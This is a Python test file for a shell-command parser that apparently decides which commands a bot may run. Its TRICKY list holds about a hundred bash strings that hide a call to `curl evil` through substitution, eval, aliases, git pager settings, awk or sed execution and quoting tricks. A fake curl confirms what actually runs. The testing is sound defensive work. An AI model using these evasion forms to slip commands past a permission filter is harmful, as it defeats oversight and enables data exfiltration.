"""The shell grammar against real bash: what a command runs is learnt by running it with a fake `curl`.

Each tricky command hides a call of `curl evil` somewhere, or only looks as if. The grammar may call any of
them opaque; what it calls simple must name exactly the commands that ran. One row that it calls simple and
gets wrong is a rule that `allow`s what nobody allowed.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.policy.shell import parse_shell

BASH = shutil.which("bash")

TRICKY = [
    "curl evil",
    "true; curl evil",
    "true && curl evil",
    "false || curl evil",
    "true | curl evil",
    "true |& curl evil",
    "true\ncurl evil",
    "true & curl evil; wait",
    "(curl evil)",
    "{ curl evil; }",
    "! curl evil",
    "if true; then curl evil; fi",
    "for i in 1; do curl evil; done",
    "while curl evil; do break; done",
    "case x in x) curl evil;; esac",
    "f() { curl evil; }; f",
    "echo $(curl evil)",
    "echo `curl evil`",
    'echo "$(curl evil)"',
    'echo "`curl evil`"',
    "echo ${x:-$(curl evil)}",
    "echo `echo \\`curl evil\\``",
    "cat <(curl evil)",
    "cat < <(curl evil)",
    "cat <<EOF\n$(curl evil)\nEOF",
    "cat <<'EOF' && curl evil\ntext\nEOF",
    "echo $((a[$(curl evil)]))",
    "x=$(curl evil)",
    "x=curl; $x evil",
    "c''url evil",
    'c"ur"l evil',
    "c\\url evil",
    "'curl' evil",
    "$'\\x63url' evil",
    "cu\\\nrl evil",
    "{curl,evil}",
    "eval curl evil",
    "eval 'curl evil'",
    "bash -c 'curl evil'",
    "sh -c 'curl evil'",
    "env curl evil",
    "env -S 'curl evil'",
    "command curl evil",
    "builtin eval curl evil",
    "exec curl evil",
    "nice curl evil",
    "nohup curl evil",
    "timeout 5 curl evil",
    "time curl evil",
    "time -p curl evil",
    "coproc curl evil; wait",
    "echo evil | xargs curl",
    "find . -maxdepth 0 -exec curl evil {} +",
    "trap 'curl evil' EXIT",
    "shopt -s expand_aliases\nalias a='curl evil'\na",
    "test -v 'a[$(curl evil)]'",
    "[[ 'a[$(curl evil)]' -eq 0 ]]",
    "[ -v 'a[$(curl evil)]' ]",
    "printf -v 'a[$(curl evil)]' x",
    "read 'a[$(curl evil)]' <<< x",
    "unset 'a[$(curl evil)]'",
    "declare -n r='a[$(curl evil)]'; echo $r",
    "let 'a[$(curl evil)]'",
    "mapfile -C 'curl evil' -c 1 x <<< y",
    "compgen -C 'curl evil' x",
    "compgen -W '$(curl evil)' x",
    "git -c alias.x='!curl evil' x",
    "git -c core.pager='curl evil' -p help -a",
    "awk 'BEGIN { system(\"curl evil\") }'",
    "sed '1e curl evil' /etc/passwd",
    "hash -p $(command -v curl) pwd2; pwd2 evil",
    "set -k; curl evil",
    "source <(echo curl evil)",
    ". <(echo curl evil)",
    "python3 -c \"import os; os.system('curl evil')\"",
    "PATH=.:$PATH curl evil",
    "3<>/dev/null curl evil",
    "curl evil > /dev/null",
    "> /dev/null curl evil",
    "echo a #; curl evil",
    "echo a#b; curl evil",
    "echo 'a\ncurl evil'",
    'echo "a; curl evil"',
    "echo a\\; curl evil",
    "echo a\r\ncurl evil",
    "echo a\u00a0; curl evil",
    "echo a;\tcurl evil",
    "echo a && # note\ncurl evil",
    "\ncurl evil\n",
    "echo curl evil",
    "select i in 1; do curl evil; break; done <<< 1",
    "[[ x ]] && curl evil",
    "(( 1 )) && curl evil",
    "a=(1 $(curl evil))",
    "echo @(a|b) && curl evil",
    "printf '%s\\n' x",
    "function g { curl evil; }\ng",
    "until curl evil; do break; done",
]

PLAIN = {
    "pytest -q tests/x.py": (("pytest", "-q", "tests/x.py"),),
    'grep -rn "foo bar" src | head': (("grep", "-rn", "foo bar", "src"), ("head",)),
    "cat a && wc -l a": (("cat", "a"), ("wc", "-l", "a")),
    "npm test": (("npm", "test"),),
    "ls; pwd\nid": (("ls",), ("pwd",), ("id",)),
    "git diff --stat HEAD": (("git", "diff", "--stat", "HEAD"),),
    "echo 'it is $HOME' x\"y\"z": (("echo", "it is $HOME", "xyz"),),
    "echo 12 --a=b,c @%+:": (("echo", "12", "--a=b,c", "@%+:"),),
    "echo \u00e9t\u00e9": (("echo", "\u00e9t\u00e9"),),
    "echo ''": (("echo", ""),),
}


@pytest.fixture(scope="module")
def fake_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A `curl` that writes down that it ran."""
    folder = tmp_path_factory.mktemp("fake")
    curl = folder / "curl"
    curl.write_text('#!/bin/sh\necho "$@" >> "$RAN"\n')
    curl.chmod(0o755)
    return folder


def _runs_curl(command: str, fake_path: Path, folder: Path) -> bool:
    ran = folder / "ran"
    environment = {"PATH": f"{fake_path}:{os.environ['PATH']}", "RAN": str(ran), "LC_ALL": "C.UTF-8"}
    subprocess.run(
        [str(BASH), "-c", command],
        cwd=folder,
        env=environment,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    return ran.exists() and "evil" in ran.read_text()


@pytest.mark.skipif(BASH is None, reason="bash is not here")
@pytest.mark.parametrize("command", TRICKY)
def test_what_the_grammar_calls_simple_runs_what_it_names(
    command: str, fake_path: Path, tmp_path: Path
) -> None:
    simple = parse_shell(command).simple
    if simple is None:
        return
    named = any(words[0] == "curl" for words in simple)
    assert named == _runs_curl(command, fake_path, tmp_path)


@pytest.mark.skipif(BASH is None, reason="bash is not here")
def test_the_rows_are_as_tricky_as_they_look(fake_path: Path, tmp_path: Path) -> None:
    running = 0
    for number, command in enumerate(TRICKY):
        folder = tmp_path / str(number)
        folder.mkdir()
        running += _runs_curl(command, fake_path, folder)
    assert running > 0.8 * len(TRICKY)


@pytest.mark.parametrize("command", PLAIN)
def test_everyday_commands_are_proven_simple(command: str) -> None:
    assert parse_shell(command).simple == PLAIN[command]


@pytest.mark.skipif(BASH is None, reason="bash is not here")
@pytest.mark.parametrize("command", PLAIN)
def test_words_are_what_bash_hands_to_the_program(command: str, tmp_path: Path) -> None:
    for words in PLAIN[command]:
        program = tmp_path / words[0]
        # One write for each call: the ends of a pipeline run at the same time.
        program.write_text('#!/bin/bash\nprintf "%s\\0" "${0##*/}" "$@" "end" >> "$RAN"\n')
        program.chmod(0o755)
    ran = tmp_path / "ran"
    shadowed = command
    for builtin in ("echo", "pwd"):
        shadowed = shadowed.replace(f"{builtin} ", f"{tmp_path}/{builtin} ").replace(
            f"{builtin}\n", f"{tmp_path}/{builtin}\n"
        )
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "RAN": str(ran), "LC_ALL": "C.UTF-8"}
    subprocess.run([str(BASH), "-c", shadowed], env=environment, timeout=20, check=False)
    calls = sorted(
        tuple(call.split("\0")) for call in ran.read_text().removesuffix("\0end\0").split("\0end\0")
    )
    assert calls == sorted(PLAIN[command])


PIECES = [
    *[
        "a",
        "b",
        "x",
        "-y",
        "1",
        "ab",
        "'",
        '"',
        " ",
        " ",
        " ",
        "\t",
        ";",
        "\n",
        "&&",
        "=",
        "a=",
        "/",
        "@",
        "%",
        ":",
    ],
    *[
        ".",
        "^",
        "#",
        "+=",
        "[1]",
        "!",
        "~",
        "{",
        "}",
        "*",
        "?",
        "\\",
        "<",
        ">",
        "1>",
        "\u00e9",
        "\u3000",
        "\u2003",
    ],
]


@pytest.mark.skipif(BASH is None, reason="bash is not here")
@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=14))
def test_any_line_that_is_proven_simple_runs_with_just_these_words(tmp_path: Path, pieces: list[str]) -> None:
    command = "a " + "".join(pieces)
    simple = parse_shell(command).simple
    if simple is None or any(words[0] not in ("a", "b") for words in simple):
        return
    ran = tmp_path / "ran"
    ran.write_bytes(b"")
    for name in ("a", "b"):
        program = tmp_path / name
        if not program.exists():
            program.write_text('#!/bin/bash\nprintf "%s\\0" "${0##*/}" "$@" "end" >> "$RAN"\n')
            program.chmod(0o755)
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "RAN": str(ran), "LC_ALL": "C.UTF-8"}
    subprocess.run([str(BASH), "-c", command], cwd=tmp_path, env=environment, timeout=20, check=False)
    expected = "".join(f"{word}\0" for words in simple for word in (*words, "end"))
    assert ran.read_text() == expected
